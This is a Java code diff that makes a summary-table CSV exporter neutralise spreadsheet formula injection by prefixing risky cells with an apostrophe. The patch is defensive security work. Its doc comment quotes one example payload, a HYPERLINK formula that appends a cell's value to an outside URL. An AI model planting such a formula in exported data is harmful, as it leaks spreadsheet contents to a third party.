@@ -10,6 +10,7 @@ import java.time.format.DateTimeFormatter;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Optional;
+import java.util.regex.Pattern;
 import org.immutables.value.Value;
 import org.opsbook.core.Level;
 import org.opsbook.core.Masking;
@@ -127,6 +128,8 @@ public final class SummaryTables {
    * hold personal data (names of follow-up people); the table is the report itself, so it is not masked. Immutable.
    */
   public static final class SummaryTable {
+    /** A cell a spreadsheet reads as a number, not a formula, though it begins with a sign. */
+    private static final Pattern PLAIN_NUMBER = Pattern.compile("[+-]?\\d+(\\.\\d+)?");
     private final String title;
     private final ImmutableList<String> headers;
     private final ImmutableList<ImmutableList<String>> rows;
@@ -190,7 +193,13 @@ public final class SummaryTables {
       sb.append('\n');
     }
 
-    /** Returns the table as CSV: the header row, then one record per row, CRLF line ends, fields quoted as needed. */
+    /**
+     * Returns the table as CSV: the header row, then one record per row, CRLF line ends, fields quoted as needed. A
+     * cell that a spreadsheet would read as a formula, one that begins with {@code =}, {@code +}, {@code -}, {@code @},
+     * a tab or a carriage return and is not a plain number, is written with a leading {@code '}, which Excel and WPS
+     * take as "text": the cells hold what people typed (a fault's phenomenon, a BUG's description), and a description
+     * such as {@code =HYPERLINK("http://…?"&B2, "详情")} would otherwise run in the reader's spreadsheet.
+     */
     public String toCsv() {
       StringBuilder sb = new StringBuilder();
       record(sb, headers);
@@ -206,6 +215,9 @@ public final class SummaryTables {
           sb.append(',');
         }
         String c = cells.get(i);
+        if (readAsFormula(c)) {
+          c = "'" + c;
+        }
         if (c.indexOf(',') >= 0 || c.indexOf('"') >= 0 || c.indexOf('\n') >= 0 || c.indexOf('\r') >= 0) {
           sb.append('"').append(c.replace("\"", "\"\"")).append('"');
         } else {
@@ -213,6 +225,14 @@ public final class SummaryTables {
         }
       }
       sb.append("\r\n");
+    }
+
+    /** True when a spreadsheet opening the CSV would take {@code cell} as a formula (OWASP's CSV injection). */
+    private static boolean readAsFormula(String cell) {
+      if (cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0) {
+        return false;
+      }
+      return !PLAIN_NUMBER.matcher(cell).matches();
     }
 
     @Override
